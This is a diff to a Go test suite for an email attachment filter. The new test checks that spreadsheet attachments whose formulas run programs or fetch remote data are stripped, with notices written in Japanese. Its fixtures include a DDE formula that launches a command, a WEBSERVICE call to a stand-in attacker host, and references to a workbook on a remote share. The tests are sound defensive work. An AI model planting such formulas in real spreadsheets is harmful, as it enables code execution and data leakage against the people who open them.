@@ -5,6 +5,7 @@ import (
 	"archive/zip"
 	"bytes"
 	"encoding/base64"
+	"encoding/xml"
 	"io"
 	"os"
 	"path/filepath"
@@ -33,6 +34,7 @@ func TestBlocksKeeping(t *testing.T) {
 		{[]string{"archive: entry written outside its folder ../../Startup/a.lnk.txt"}, escapingEntryReason},
 		{[]string{"archive: entry written outside its folder ../macros/a.txt"}, escapingEntryReason},
 		{[]string{"archive: link entry docs -> README"}, linkEntryReason},
+		{[]string{"office: formulas not inspected xl/worksheets/sheet2.xml: UTF-16", "office: formula that runs or fetches (EXEC) in macros.zip/a.xlsx/xl/workbook.xml"}, runningFormulaReason},
 		{[]string{"archive: too many entries (more than 10)", "archive: link entry macros -> /etc"}, linkEntryReason},
 		{[]string{"pdf: not fully inspected: a stream mugai cannot read to the end", "pdf: javascript"}, "document with active or embedded content"},
 		{[]string{"zip: corrupt entry", "zip: encrypted entry secret.docx"}, "encrypted content cannot be inspected"},
@@ -666,6 +668,63 @@ func TestArchiveLinkNotice(t *testing.T) {
 			}
 			if text := decodedText(t, out); strings.Contains(text, jp) != (tt.reason == linkEntryReason) {
 				t.Errorf("notice, for %q:\n%s", tt.reason, text)
+			}
+		})
+	}
+	if got, _ := rewriteLinks(jp, "defang"); got != jp {
+		t.Errorf("%q: rewritten as %q", jp, got)
+	}
+}
+
+// TestKeptWorkbookFormulas: a workbook kept by a rule is read for its
+// formulas. One that runs a program or fetches from elsewhere (DDE,
+// WEBSERVICE, another workbook on a share) is not kept, and the notice
+// says why; a HYPERLINK to a share is refused as a hyperlink is, one to
+// the web is counted as left clickable, and one whose target is computed
+// from a cell cannot be checked.
+func TestKeptWorkbookFormulas(t *testing.T) {
+	workbook := func(formula string) []byte {
+		var f strings.Builder
+		xml.EscapeText(&f, []byte(formula))
+		var b bytes.Buffer
+		z := zip.NewWriter(&b)
+		for _, p := range [][2]string{
+			{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`},
+			{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>`},
+			{"xl/worksheets/sheet1.xml", `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>` + f.String() + `</f></c></row></sheetData></worksheet>`},
+		} {
+			w, err := z.Create(p[0])
+			if err != nil {
+				t.Fatal(err)
+			}
+			w.Write([]byte(p[1]))
+		}
+		if err := z.Close(); err != nil {
+			t.Fatal(err)
+		}
+		return b.Bytes()
+	}
+	const jp = "開くと他のプログラムを動かしたり、Webや共有フォルダ、他のブックからデータを取り込んだりする数式（DDE、WEBSERVICEなど）を含むブックのため"
+	for _, tt := range []struct {
+		name, formula, decision, reason, notice string
+	}{
+		{"DDE", `cmd|'/c calc'!A1`, DecisionStrip, runningFormulaReason, jp},
+		{"WEBSERVICE", `_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://evil.example/q"),"//a")`, DecisionStrip, runningFormulaReason, jp},
+		{"another workbook on a share", `'\\evil.example\s\[b.xlsx]Sheet1'!A1`, DecisionStrip, runningFormulaReason, jp},
+		{"HYPERLINK to a share", `HYPERLINK("\\evil.example\s\a.xlsx")`, DecisionStrip, "document links to a network share (UNC path)", "共有フォルダへのリンク（UNCパス）を含む文書のため"},
+		{"HYPERLINK to a cell's value", `HYPERLINK(B1)`, DecisionStrip, "document could not be fully inspected", "文書を検査しきれないため"},
+		{"HYPERLINK to the web", `HYPERLINK("https://www.city.example.lg.jp/")`, DecisionKeep, "allowed by a keep rule; 1 link left clickable", "リンクはクリックできる形のままです"},
+		{"sum", `SUM(A1:A3)`, DecisionKeep, "allowed by a keep rule", "そのまま添付しています"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			pol := defaultPolicy(t)
+			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".xlsx"}}}
+			rep, out := rebuilt(t, withAttachments(attached{"集計.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", workbook(tt.formula)}), pol)
+			if p := rep.Parts[1]; p.Decision != tt.decision || p.Reason != tt.reason {
+				t.Errorf("%s: %s (%s), want %s (%s); findings %+v", p.Filename, p.Decision, p.Reason, tt.decision, tt.reason, rep.Findings)
+			}
+			if text := decodedText(t, out); !strings.Contains(text, tt.notice) {
+				t.Errorf("notice does not say %q:\n%s", tt.notice, text)
 			}
 		})
 	}
